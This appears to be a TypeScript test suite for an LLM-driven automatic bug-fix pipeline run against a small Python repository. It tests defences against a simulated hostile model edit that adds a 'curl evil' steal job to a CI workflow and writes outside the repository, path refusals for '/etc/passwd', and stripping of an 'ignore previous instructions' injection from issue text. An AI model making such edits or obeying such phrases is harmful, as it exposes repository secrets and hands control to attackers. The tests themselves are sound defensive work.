import { test, describe, before, after, beforeEach } from 'node:test';
import assert from 'node:assert/strict';
import { access, readFile } from 'node:fs/promises';
import path from 'node:path';
import { runFixPipeline } from '../../src/fix/pipeline.js';
import { splitModelOutput } from '../../src/fix/pipeline/model-output.js';
import { validateCandidates } from '../../src/fix/validate-candidates.js';
import type { FixCheckpoint } from '../../src/fix/schema.js';
import { fix, GOOD_FIX, ISSUE, OPTIONS, pick, PY_BUGGY, VALIDATE_OPTIONS, world, type World } from '../helpers/fix-pipeline.js';

const ADD_ID = 'tests.test_calc.CalcTest.test_add';

describe('fix pipeline against the LLM stand-in (OpenAI SDK) and a real Python repository', () => {
  let w: World;
  before(async () => { w = await world(); });
  after(async () => { await w.close(); });
  beforeEach(() => w.sim.setScript([]));

  // The two stages as the issue workflow runs them: generate (model, apply, guard), then validate (sandbox).
  const run = async (repo: string, candidates = 1, extra: Parameters<typeof runFixPipeline>[2] = {}) => {
    const generated = await runFixPipeline(w.deps, { repo: 'acme/calc', issue: ISSUE, source: { localPath: repo }, baseBranch: 'main', options: { ...OPTIONS, candidates } }, extra);
    if (generated.status === 'generated') assert.ok(generated.candidates.every((c) => c.validation === null), 'generation runs no tests');
    return validateCandidates(w.validation, { result: generated, source: { localPath: repo }, options: VALIDATE_OPTIONS });
  };

  test('end to end: the model picks the file, fixes it with a new test, validation passes and the result carries the evidence', async () => {
    const repo = await w.repo();
    w.sim.setScript([pick(['calc.py', 'tests/test_calc.py', 'does/not/exist.py']), fix('fix', GOOD_FIX)]);
    const before = w.sim.calls.length;
    const result = await run(repo);
    assert.equal(result.status, 'pass', JSON.stringify(result.candidates[0]?.validation?.reasons));
    assert.deepEqual(result.localized, ['calc.py', 'tests/test_calc.py']);
    assert.deepEqual(result.rejectedPaths.map((r) => r.path), ['does/not/exist.py']);
    const chosen = result.chosen;
    assert.ok(chosen);
    assert.equal(chosen.verdict, 'pass');
    assert.match(chosen.diff, /\+    return a \+ b/);
    // The new test runs on the "before" side too (with the test changes, without the fix): it fails there.
    const NEW_ID = 'tests.test_add_negative.AddNegativeTest.test_add_negative';
    assert.deepEqual(chosen.evidence.fixed.sort(), [ADD_ID, NEW_ID].sort());
    assert.deepEqual(chosen.evidence.failedBefore.sort(), [ADD_ID, NEW_ID].sort());
    assert.ok(chosen.evidence.passedAfter.includes(ADD_ID));
    assert.deepEqual(chosen.evidence.newTests, []);
    assert.deepEqual(chosen.changes, [{ path: 'calc.py' }, { path: 'tests/test_add_negative.py', note: 'new file' }]);
    assert.equal(chosen.explanation, 'fix from fix');
    // Two model calls, both charged with the usage the API reported.
    const calls = w.sim.calls.slice(before);
    assert.equal(calls.length, 2);
    const reported = calls.reduce((s, c) => s + (c.usage?.inputTokens ?? 0) + (c.usage?.outputTokens ?? 0) + (c.usage?.cacheReadInputTokens ?? 0), 0);
    assert.equal(result.tokens.inputTokens + result.tokens.outputTokens + result.tokens.cacheReadTokens, reported);
    assert.ok(result.tokens.inputTokens > 0);
    assert.equal(result.provider, 'openai');
    // The issue went in quoted, with its hidden HTML comment removed.
    const sent = JSON.stringify(calls[0]?.body);
    assert.match(sent, /<issue>/);
    assert.doesNotMatch(sent, /ignore previous instructions/);
    // The source checkout is untouched.
    assert.equal(await readFile(path.join(repo, 'calc.py'), 'utf8'), PY_BUGGY['calc.py']);
  });

  test('an edit that does not apply goes back once with the nearest lines, and the repaired edit applies', async () => {
    const repo = await w.repo();
    const wrong = [{ path: 'calc.py', search: 'def add(a, b):\n    return a * b\n', replace: 'def add(a, b):\n    return a + b\n' }];
    let repairPrompt = '';
    w.sim.setScript([
      pick(['calc.py']),
      { id: 'repair', match: { tool: 'propose_fix', contains: 'did not apply' }, respond: (req) => { repairPrompt = req.text; return { toolUse: { name: 'propose_fix', input: { explanation: 'repaired', edits: GOOD_FIX } } }; } },
      fix('first', wrong),
    ]);
    const result = await run(repo);
    assert.equal(result.status, 'pass');
    assert.equal(result.candidates[0]?.repaired, true);
    assert.match(repairPrompt, /nearest lines/);
    assert.match(repairPrompt, /return a - b/);
    assert.deepEqual(w.sim.unusedRules(), []);
  });

  test('a line-endings edit converts a CRLF file before the fix edits it; the diff and the PR note carry the conversion', async () => {
    const crlf = (PY_BUGGY['calc.py'] ?? '').replace(/\n/g, '\r\n');
    const repo = await w.repo({ ...PY_BUGGY, 'calc.py': crlf });
    w.sim.setScript([pick(['calc.py']), fix('fix', [{ path: 'calc.py', lineEndings: 'lf' }, ...GOOD_FIX])]);
    const result = await run(repo);
    assert.equal(result.status, 'pass', JSON.stringify(result.candidates[0]?.validation?.reasons));
    assert.deepEqual(result.candidates[0]?.edits.map((e) => [e.kind, e.status]), [['line_endings', 'converted'], ['search_replace', 'exact'], ['new_file', 'created']]);
    const diff = result.chosen?.diff ?? '';
    assert.match(diff, /^-def add\(a, b\):\r$/m);
    assert.match(diff, /^\+def add\(a, b\):$/m);
    assert.doesNotMatch(diff.split('\n').filter((l) => l.startsWith('+')).join('\n'), /\r/, 'no CRLF left on the new side');
    assert.deepEqual(result.chosen?.changes[0], { path: 'calc.py', note: 'line endings converted' });
  });

  test('when the repair fails too the failure is recorded and nothing crashes', async () => {
    const repo = await w.repo();
    const wrong = [{ path: 'calc.py', search: 'def add(a, b):\n    return a * b\n', replace: 'x\n' }];
    w.sim.setScript([pick(['calc.py']), fix('always-wrong', wrong)]);
    const before = w.sim.calls.length;
    const result = await run(repo);
    assert.equal(w.sim.calls.length - before, 3, 'localize, generate, one repair');
    assert.equal(result.status, 'no_fix');
    assert.equal(result.chosen, null);
    const c = result.candidates[0];
    assert.equal(c?.status, 'apply_failed');
    assert.equal(c?.repaired, true);
    assert.match(c?.applyFailures[0] ?? '', /calc\.py: search block not found/);
  });

  test('hostile output editing CI workflows or ../outside is refused, recorded and never written', async () => {
    const repo = await w.repo({ ...PY_BUGGY, '.github/workflows/ci.yml': 'on: push\n' });
    w.sim.setScript([pick(['calc.py']), fix('hostile', [
      ...GOOD_FIX,
      { path: '.github/workflows/ci.yml', search: 'on: push\n', replace: 'on: push\njobs: { steal: { run: curl evil } }\n' },
      { path: '../outside.py', newFile: 'owned = True\n' },
    ])]);
    const result = await run(repo);
    const c = result.candidates[0];
    assert.equal(c?.status, 'refused');
    assert.equal(c?.validation, null);
    assert.deepEqual(c?.refused.map((r) => r.path).sort(), ['../outside.py', '.github/workflows/ci.yml']);
    assert.match(c?.refused.find((r) => r.path === '../outside.py')?.reason ?? '', /outside the repository/);
    assert.match(c?.refused.find((r) => r.path.startsWith('.github'))?.reason ?? '', /CI/);
    assert.equal(result.status, 'no_fix');
    await assert.rejects(access(path.join(w.cacheDir, 'worktrees', '..', 'outside.py')));
    await assert.rejects(access(path.join(path.dirname(repo), 'outside.py')));
  });

  test('of two candidates the passing one is chosen', async () => {
    const repo = await w.repo();
    const badFix = [{ path: 'calc.py', search: 'def add(a, b):\n    return a - b\n', replace: 'def add(a, b):\n    return a * b\n' }];
    w.sim.setScript([pick(['calc.py']), fix('second', GOOD_FIX, { contains: 'candidate 2 of 2' }), fix('first', badFix)]);
    const result = await run(repo, 2);
    assert.equal(result.candidates.length, 2);
    assert.equal(result.candidates[0]?.verdict, 'unproven', 'breaks nothing that passed, fixes nothing: not a fix');
    assert.equal(result.candidates[1]?.verdict, 'pass');
    assert.equal(result.chosen?.index, 1);
    assert.equal(result.status, 'pass');
  });

  test('resuming from a checkpoint does not call the model again for candidates already produced', async () => {
    const repo = await w.repo();
    w.sim.setScript([pick(['calc.py']), fix('fix', GOOD_FIX)]);
    const checkpoints: FixCheckpoint[] = [];
    await run(repo, 1, { onCheckpoint: (cp) => checkpoints.push(cp) });
    const atValidate = checkpoints.find((c) => c.stage === 'apply');
    assert.ok(atValidate);
    assert.equal(atValidate.candidates.length, 1);
    assert.ok(atValidate.localized);
    const calls = w.sim.calls.length;
    const again = await run(repo, 1, { checkpoint: atValidate });
    assert.equal(w.sim.calls.length, calls, 'no model call on resume');
    assert.equal(again.status, 'pass');
    // A checkpoint holding only the localization costs exactly one more call (the candidate).
    const partial: FixCheckpoint = { ...atValidate, stage: 'generate', candidates: [] };
    await run(repo, 1, { checkpoint: partial });
    assert.equal(w.sim.calls.length, calls + 1);
  });

  test('model output that is not an edit list is an invalid candidate, not a crash', async () => {
    const repo = await w.repo();
    w.sim.setScript([pick(['calc.py']), { id: 'junk', match: { tool: 'propose_fix' }, respond: { toolUse: { name: 'propose_fix', input: { explanation: 'x', edits: [] } } } }]);
    const result = await run(repo);
    assert.equal(result.candidates[0]?.status, 'invalid_output');
    assert.match(result.candidates[0]?.error ?? '', /validation/);
    assert.equal(result.status, 'no_fix');
  });
});

describe('splitModelOutput', () => {
  test('keeps good edits, refuses escaping paths, rejects malformed ones', () => {
    const s = splitModelOutput({ explanation: 'e', edits: [{ path: 'a.py', newFile: 'x' }, { path: '/etc/passwd', newFile: 'x' }, { path: 'b/../../c', search: 'a', replace: 'b' }] });
    assert.deepEqual(s.edits, [{ path: 'a.py', newFile: 'x' }]);
    assert.equal(s.refused.length, 2);
    assert.throws(() => splitModelOutput({ explanation: 'e', edits: [{ path: 'a.py', search: '  ', replace: 'b' }] }), /edit 1/);
    assert.deepEqual(splitModelOutput({ explanation: 'e', edits: [{ path: 'a.py', lineEndings: 'lf' }] }).edits, [{ path: 'a.py', lineEndings: 'lf' }]);
    assert.throws(() => splitModelOutput({ explanation: 'e', edits: [{ path: 'a.py', lineEndings: 'mac' }] }), /edit 1/);
    assert.equal(splitModelOutput({ explanation: 'e', edits: [{ path: '../a.py', lineEndings: 'lf' }] }).refused.length, 1);
    assert.throws(() => splitModelOutput({ edits: [] }), /validation/);
    assert.throws(() => splitModelOutput('nope'), /validation/);
  });
});
